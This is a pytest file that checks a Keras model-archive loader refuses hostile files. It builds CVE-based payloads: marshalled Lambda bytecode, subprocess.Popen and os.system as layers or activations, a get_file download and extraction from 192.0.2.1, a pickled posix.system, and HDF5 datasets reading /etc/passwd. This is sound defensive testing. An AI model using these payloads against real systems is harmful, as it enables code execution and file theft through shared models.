"""Attacks that Keras's security advisories tell of, and their kin, in the models of a run from others.

Each would run code, read a file, ask a stranger's server or take the machine's memory when Keras loads it.
All are refused before Keras is asked to load anything, in one sentence, and none of them does what it is for.
"""

import io
import json
import marshal
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import keras
import numpy as np
import pytest

from cnnlab import architectures, exchange
from cnnlab.exchange import model_file, opening, weights_file
from cnnlab.keras_internals import without_weights
from tests.exchange.test_opening import Altered, h5, keras_file, network, refused


@pytest.fixture
def harmed(tmp_path: Path) -> Path:
    """The file that an attack which works would make."""
    return tmp_path / "harmed"


@pytest.fixture(autouse=True)
def never_loaded(monkeypatch: pytest.MonkeyPatch, harmed: Path, tmp_path: Path):
    """Keras is never asked to load, the file is not made, and nobody is connected to."""
    (tmp_path / "secret.txt").write_text("secret")
    monkeypatch.setattr(keras.models, "load_model", lambda *_, **__: pytest.fail("loaded"))
    monkeypatch.setattr("socket.socket.connect", lambda *_: pytest.fail("connected"))
    yield
    assert not harmed.exists()


def layer(config: dict[str, Any], name: str = "relu1") -> dict[str, Any]:
    return next(layer for layer in config["config"]["layers"] if layer["name"] == name)


def function(module: str, name: str) -> dict[str, Any]:
    """Return what stands for a function in a description of a network."""
    return {"class_name": "function", "config": name, "module": module, "registered_name": "function"}


def lambda_with(inner: Any, **config: Any) -> dict[str, Any]:
    return {
        "class_name": "Lambda",
        "module": "keras.layers",
        "registered_name": None,
        "config": {"name": "relu1", "function": inner, **config},
    }


def lambda_of_code(config: dict[str, Any], harmed: Path) -> None:
    """CVE-2024-3660: a Lambda layer that brings its bytecode along."""
    code = compile(f"open({str(harmed)!r}, 'w')", "evil", "eval")
    marshalled = {"class_name": "__lambda__", "config": {"code": marshal.dumps(code).hex(), "defaults": None}}
    layer(config).update(lambda_with(marshalled))


def any_module(config: dict[str, Any], harmed: Path) -> None:
    """CVE-2025-1550: a class of any module, imported and called with what the file says."""
    told = {"class_name": "Popen", "module": "subprocess", "registered_name": "Popen"}
    layer(config).update({**told, "config": {"args": ["touch", str(harmed)]}})


def any_function(config: dict[str, Any], harmed: Path) -> None:
    """CVE-2025-1550 again: a function of any module in the place of an activation."""
    layer(config)["config"]["activation"] = function("os", "system")


def get_file(config: dict[str, Any], harmed: Path) -> None:
    """CVE-2025-8747, CVE-2025-12060: Keras's own downloader, which also unpacks, for a Lambda."""
    arguments = {
        "fname": "x.tar",
        "origin": "http://192.0.2.1/x.tar",
        "extract": True,
        "cache_dir": str(harmed),
    }
    layer(config).update(lambda_with(function("keras.utils", "get_file"), arguments=arguments))


def unlocked(config: dict[str, Any], harmed: Path) -> None:
    """CVE-2025-9906: the description first calls what switches the safe mode off, then brings a Lambda."""
    first = function("keras.config", "enable_unsafe_deserialization")
    config["config"]["layers"].insert(1, {**lambda_with(first), "name": "first", "inbound_nodes": []})
    lambda_of_code(config, harmed)


def lookup(kind: str) -> Callable[[dict[str, Any], Path], None]:
    def lookup(config: dict[str, Any], harmed: Path) -> None:
        """CVE-2025-12058: a vocabulary that is read from any file, or fetched from the network."""
        told = {"vocabulary": str(harmed.parent / "secret.txt"), "name": "relu1", "num_oov_indices": 1}
        layer(config).update(
            {"class_name": kind, "module": "keras.layers", "registered_name": None, "config": told}
        )

    return lookup


def pickled_torch(config: dict[str, Any], harmed: Path) -> None:
    """CVE-2025-49655: a wrapper that unpickles a module of another library."""
    told = {"module": "gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU", "name": "relu1"}
    layer(config).update({"class_name": "TorchModuleWrapper", "module": "keras.layers", "config": told})


def saved_model(config: dict[str, Any], harmed: Path) -> None:
    """CVE-2026-1462: a layer that loads a SavedModel of any path, whose graph may read and write files."""
    told = {"filepath": str(harmed.parent), "name": "relu1"}
    layer(config).update({"class_name": "TFSMLayer", "module": "keras.layers", "config": told})


def in_the_compiler(config: dict[str, Any], harmed: Path) -> None:
    """A loss that is a function of any module: what is compiled is looked through as well."""
    config["compile_config"] = {"optimizer": "adam", "loss": function("os", "system"), "metrics": None}


def metric_of_a_lambda(config: dict[str, Any], harmed: Path) -> None:
    """A metric that calls any function."""
    wrapped = {"class_name": "MeanMetricWrapper", "module": "keras.metrics", "registered_name": None}
    config["compile_config"] = {
        "loss": "mse",
        "metrics": [{**wrapped, "config": {"fn": function("os", "system")}}],
    }


def in_a_regularizer(config: dict[str, Any], harmed: Path) -> None:
    """A function where a regularizer is expected: its module is an allowed one, the name is no class."""
    layer(config, "output")["config"]["kernel_regularizer"] = function("keras.regularizers", "deserialize")


def in_the_build(config: dict[str, Any], harmed: Path) -> None:
    """What a layer is built with is a description, too."""
    layer(config)["build_config"] = {"input_shape": function("builtins", "eval")}


def tensor(config: dict[str, Any], harmed: Path) -> None:
    """Values that are written into the description, of a kind that only Keras's own tests need."""
    layer(config)["config"]["threshold"] = {"class_name": "__typespec__", "config": ["x"], "module": "os"}


def model_in_a_model(config: dict[str, Any], harmed: Path) -> None:
    """A subclassed model, whose class is looked for by its name."""
    layer(config).update({"class_name": "Sequential", "module": "keras", "config": {"layers": []}})


def optimizer_of_ours(config: dict[str, Any], harmed: Path) -> None:
    """A name that our own things are registered under, for a class of somebody else."""
    layer(config).update({"class_name": "system", "module": "os", "registered_name": "cnnlab>system"})


DESCRIPTIONS = [
    *(
        lambda_of_code,
        any_module,
        any_function,
        get_file,
        unlocked,
        pickled_torch,
        saved_model,
        in_the_compiler,
    ),
    *(metric_of_a_lambda, in_a_regularizer, in_the_build, tensor, model_in_a_model, optimizer_of_ours),
    *map(lookup, ("StringLookup", "IntegerLookup", "TextVectorization", "Hashing")),
]


@pytest.mark.parametrize("attack", DESCRIPTIONS, ids=lambda attack: attack.__name__)
def test_a_description_that_brings_more_than_layers_is_refused(
    altered: Altered, archive: Path, attack: Callable[[dict[str, Any], Path], None], harmed: Path
):
    config = network(archive)
    attack(config, harmed)
    text = json.dumps(config).encode()
    refused(
        altered({opening.BEST: keras_file(archive, config__json=text)}), "which is not a layer for images"
    )
    refused(
        altered({opening.LAST: keras_file(archive, config__json=text)}), "which is not a layer for images"
    )


def test_the_old_format_whose_safe_mode_is_not_looked_at_is_refused(altered: Altered, tmp_path: Path):
    """CVE-2025-9905: an HDF5 file of a whole model, under any name."""
    image = keras.Input((16, 16, 1))
    flat = keras.layers.Flatten()(keras.layers.Lambda(lambda x: x * 2, output_shape=(16, 16, 1))(image))
    keras.Model(image, keras.layers.Dense(10)(flat)).save(tmp_path / "evil.h5")
    refused(altered({opening.BEST: (tmp_path / "evil.h5").read_bytes()}), "HDF5 file, not a ZIP")
    refused(altered({"checkpoints/best.h5": (tmp_path / "evil.h5").read_bytes()}), "no part of a run")


@pytest.mark.parametrize(
    "name", ["assets/vocabulary.txt", "../x", "model.weights.npz", "model_0.weights.h5", "x.pkl"]
)
def test_a_model_file_that_brings_other_files_is_refused(altered: Altered, archive: Path, name: str):
    evil = keras_file(archive, **{name.replace(".", "__"): b"x"})
    with zipfile.ZipFile(io.BytesIO(evil)) as file:
        assert name in file.namelist()
    with pytest.raises(exchange.opening.RunError, match=r"no part of a run|unsafe path"):
        exchange.open_run(altered({opening.BEST: evil}))


def virtual(file: h5py.File) -> None:
    """An array whose values are those of another file of the computer."""
    layout = h5py.VirtualLayout((100,), "f4")
    layout[:] = h5py.VirtualSource("/etc/passwd", "x", (100,))
    file.create_virtual_dataset("layers/conv/vars/0", layout)


def virtual_of_itself(file: h5py.File) -> None:
    """An array that is many times the values of another one of the same file."""
    file["small"] = np.zeros(100, "f4")
    layout = h5py.VirtualLayout((10_000, 100), "f4")
    for row in range(100):
        layout[row] = h5py.VirtualSource(".", "small", (100,))
    file.create_virtual_dataset("layers/conv/vars/0", layout)


def stored_outside(file: h5py.File) -> None:
    """CVE-2026-1669: an array whose bytes lie in any file of the computer."""
    outside = [("/etc/passwd", 0, 400)]
    file.create_dataset("layers/conv/vars/0", (100,), "f4", external=outside)


def linked_outside(file: h5py.File) -> None:
    file["layers"] = h5py.ExternalLink("/etc/passwd", "/")


def shape_without_bytes(file: h5py.File) -> None:
    """CVE-2026-0897: a few bytes that say that they are petabytes."""
    file.create_dataset("layers/conv/vars/0", (2**25, 2**25), "f4", chunks=(1024, 1024))


def references(file: h5py.File) -> None:
    file["x"] = np.zeros(5, "f4")
    file.create_dataset("layers/conv/vars/0", data=[file["x"].ref], dtype=h5py.ref_dtype)


def filtered(file: h5py.File) -> None:
    """A filter may be a library that HDF5 loads from a folder of plugins."""
    file.create_dataset("layers/conv/vars/0", data=np.zeros(1000, "f4"), compression="lzf")


def compound(file: h5py.File) -> None:
    file["layers/conv/vars/0"] = np.zeros(3, [("a", "f4"), ("b", "S300")])


def many_attributes(file: h5py.File) -> None:
    for number in range(weights_file.MOST_ATTRIBUTES + 1):
        file.attrs[f"a{number}"] = number


WEIGHTS = [
    *(virtual, virtual_of_itself, stored_outside, linked_outside, shape_without_bytes, references, filtered),
    *(compound, many_attributes),
]


@pytest.mark.parametrize("write", WEIGHTS, ids=lambda write: write.__name__)
def test_weights_that_are_more_than_numbers_of_their_own_are_refused(
    altered: Altered, archive: Path, write: Callable[[h5py.File], None]
):
    evil = keras_file(archive, model__weights__h5=h5(write))
    refused(altered({opening.BEST: evil}), "The weights are not plain numbers")


def chain(config: dict[str, Any], count: int) -> None:
    """Put so many layers in the place of one, each after the other."""
    layers = config["config"]["layers"]
    at = next(place for place, one in enumerate(layers) if one["name"] == "relu1")
    [first] = model_file._inputs(layers[at]["inbound_nodes"])
    text = json.dumps(layers[at])
    more, before = [], first
    for number in range(count):
        name = "relu1" if number == count - 1 else f"more{number}"
        more.append(json.loads(text.replace('"relu1"', f'"{name}"').replace(f'"{first}"', f'"{before}"')))
        before = name
    layers[at : at + 1] = more


def test_a_network_of_thousands_of_layers_is_refused_at_once(altered: Altered, archive: Path):
    for count in (1_500, 8_000):
        config = network(archive)
        chain(config, count)
        text = json.dumps(config, separators=(",", ":")).encode()
        refused(altered({opening.BEST: keras_file(archive, config__json=text)}), "more layers than any")


def test_layers_in_no_order_are_refused_before_keras_looks_for_them(altered: Altered, archive: Path):
    """Keras goes through the whole list once for each that it cannot make yet: 3,000 take minutes."""
    config = network(archive)
    chain(config, 300)
    config["config"]["layers"].reverse()
    text = json.dumps(config).encode()
    refused(altered({opening.BEST: keras_file(archive, config__json=text)}), "in no order")


@pytest.mark.parametrize("name", ["lenet5", "inception10", "resnet18", "alexnet_2012"])
def test_the_layers_of_networks_are_written_in_order(name: str):
    reference = architectures.get(name).reference
    with without_weights():
        model = architectures.build(name, reference.input_shape, reference.num_classes)
        layers = model_file._layers(json.loads(json.dumps(keras.saving.serialize_keras_object(model))))
    assert len(layers) == len(model.layers)
    model_file._refuse_disorder(layers)
    with pytest.raises(exchange.opening.RunError):
        model_file._refuse_disorder(layers[::-1])
